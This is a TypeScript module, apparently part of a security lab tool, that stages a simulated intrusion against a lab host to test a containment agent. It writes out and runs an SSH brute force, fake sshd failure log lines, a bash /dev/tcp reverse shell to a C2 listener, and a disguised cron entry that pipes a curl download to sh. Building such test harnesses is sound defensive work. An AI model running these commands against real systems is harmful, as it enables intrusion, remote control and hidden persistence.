/**
 * A scripted intrusion from the lab's attacker against one host, for demos, tests and the
 * containment benchmark. Everything stays inside the lab's namespaces:
 * 1. a command-and-control listener on the attacker (it reads, never writes);
 * 2. an SSH-style brute force: real TCP connection attempts to the host's port 22, and the
 *    matching sshd "Failed password" lines appended to the host's auth log;
 * 3. a reverse-shell command line run on the host, connecting to the C2 listener (the listener
 *    sends nothing and closes after a few seconds, so the shell runs no command and exits);
 * 4. with a persistence root (the tree the host's agent removes persistence in), a cron entry
 *    that would fetch and run a payload from the attacker, planted in `etc/cron.d`.
 *
 * It returns once all of it has run: it waits for the reverse shell to end (killing it past a
 * bound) and stops the C2 listener it started. Before, both were left running with their pipes
 * open to this process — the listener exits only when its stdin closes — so `cordon lab
 * attack` never exited.
 */
import { appendFile, mkdir, writeFile } from 'node:fs/promises';
import type { ChildProcess } from 'node:child_process';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Lab } from './lab.ts';
import type { LabHostLayout } from './lab-layout.ts';

/** The line the planted cron file copies from the distribution's `0hourly`, to look at home. */
const HOURLY_JOB = '01 * * * * root run-parts /etc/cron.hourly';

const ATTEMPTS_TOOL = fileURLToPath(new URL('./tools/tcp-attempts.ts', import.meta.url));

export interface AttackOptions {
  readonly host: LabHostLayout;
  /** The host's auth log (the file its agent tails). */
  readonly authLogPath: string;
  readonly c2Port?: number;
  readonly attempts?: number;
  /** Where the host's agent sees its file system; the cron entry is planted below it. */
  readonly persistenceRoot?: string;
  /** How long the reverse shell may run before it is killed; default 30 s. */
  readonly shellTimeoutMs?: number;
}

export interface AttackReport {
  readonly host: { readonly id: string; readonly address: string };
  readonly c2: { readonly address: string; readonly port: number };
  readonly bruteForceAttempts: number;
  readonly reverseShellCommand: string;
  readonly reverseShell: {
    /** Whether the C2 listener took a connection from the host. */
    readonly connected: boolean;
    readonly exitCode: number | null;
    readonly signal: string | null;
    /** True when it outlived `shellTimeoutMs` and was killed. */
    readonly killed: boolean;
  };
  readonly c2Connections: readonly { readonly address: string; readonly port: number }[];
  /** The cron entry planted, as a `remove-persistence` target; absent without a root. */
  readonly persistence?: { readonly kind: 'cron'; readonly path: string; readonly line: string };
  readonly startedAt: string;
  readonly finishedAt: string;
}

function syslogTime(date: Date): string {
  const month = date.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
  const day = String(date.getUTCDate()).padStart(2, ' ');
  return `${month} ${day} ${date.toISOString().slice(11, 19)}`;
}

/** Resolves when the child has exited; kills it (SIGKILL) past `timeoutMs`. */
function exitOf(
  child: ChildProcess,
  timeoutMs: number,
): Promise<{ exitCode: number | null; signal: string | null; killed: boolean }> {
  return new Promise((resolve) => {
    let killed = false;
    const done = () => resolve({ exitCode: child.exitCode, signal: child.signalCode, killed });
    if (child.exitCode !== null || child.signalCode !== null) return done();
    const timer = setTimeout(() => {
      killed = true;
      child.kill('SIGKILL');
    }, timeoutMs);
    child.once('exit', () => {
      clearTimeout(timer);
      done();
    });
  });
}

export async function runAttack(lab: Lab, options: AttackOptions): Promise<AttackReport> {
  const { host } = options;
  const attacker = lab.attacker;
  const port = options.c2Port ?? 4444;
  // 12: above the shipped SSH brute-force correlation's threshold (10 in 5 minutes).
  const attempts = options.attempts ?? 12;
  const startedAt = new Date();
  const c2 = await lab.listen(attacker.namespace, '::', port, 'sink');
  try {
    // The connection attempts, all from one process (a Node start-up per attempt took seconds).
    await lab.exec(attacker.namespace, [
      process.execPath,
      ATTEMPTS_TOOL,
      host.ipv4,
      '22',
      String(attempts),
      '300',
    ]);
    const lines: string[] = [];
    for (let i = 0; i < attempts; i += 1) {
      const user = i % 2 === 0 ? 'root' : 'invalid user admin';
      lines.push(
        `${syslogTime(new Date())} ${host.id} sshd[${4000 + i}]: Failed password for ${user} from ${attacker.ipv4} port ${50000 + i} ssh2`,
      );
    }
    await appendFile(options.authLogPath, `${lines.join('\n')}\n`);

    let persistence: AttackReport['persistence'];
    if (options.persistenceRoot !== undefined) {
      const path = '/etc/cron.d/0hourly-update';
      const line = `*/10 * * * * root curl -fsS http://${attacker.ipv4}:${port}/u | sh`;
      await mkdir(join(options.persistenceRoot, 'etc/cron.d'), { recursive: true });
      // Dressed as the distribution's hourly job, with the payload line added to it.
      await writeFile(
        join(options.persistenceRoot, path),
        `SHELL=/bin/sh\n${HOURLY_JOB}\n${line}\n`,
      );
      persistence = { kind: 'cron', path, line };
    }

    const reverseShellCommand = `sh -i >& /dev/tcp/${attacker.ipv4}/${port} 0>&1`;
    const shell = await lab.spawn(host.namespace, ['bash', '-c', reverseShellCommand]);
    // Its output goes nowhere; its pipes close when it exits.
    shell.stdout?.resume();
    shell.stderr?.resume();
    shell.stdin?.end();
    const outcome = await exitOf(shell, options.shellTimeoutMs ?? 30_000);
    const c2Connections = c2.connections();
    return {
      host: { id: host.id, address: host.ipv4 },
      c2: { address: attacker.ipv4, port },
      bruteForceAttempts: attempts,
      reverseShellCommand,
      reverseShell: {
        connected: c2Connections.some((peer) => peer.address === host.ipv4),
        ...outcome,
      },
      c2Connections,
      ...(persistence === undefined ? {} : { persistence }),
      startedAt: startedAt.toISOString(),
      finishedAt: new Date().toISOString(),
    };
  } finally {
    await c2.close();
  }
}

/** The report as a person reads it (`cordon lab attack` without `--json`). */
export function describeAttack(report: AttackReport, authLogPath: string): string {
  const shell = report.reverseShell;
  const ended = shell.killed
    ? 'was killed after the time limit'
    : shell.signal !== null
      ? `ended by ${shell.signal}`
      : `exited with code ${String(shell.exitCode)}`;
  return [
    `attack on ${report.host.id} (${report.host.address}) from ${report.c2.address}, ${report.startedAt} to ${report.finishedAt}`,
    `  brute force     ${report.bruteForceAttempts} connection attempts to port 22; as many sshd failures appended to ${authLogPath}`,
    `  reverse shell   ${report.reverseShellCommand}`,
    `                  ${shell.connected ? 'connected to' : 'did not reach'} the C2 listener ${report.c2.address}:${report.c2.port}, ${ended}`,
    `  C2 listener     ${report.c2Connections.length} connection(s)${report.c2Connections.map((peer) => ` from ${peer.address}`).join(',')}; stopped`,
    ...(report.persistence === undefined
      ? []
      : [`  persistence     cron entry in ${report.persistence.path}: ${report.persistence.line}`]),
    '',
  ].join('\n');
}
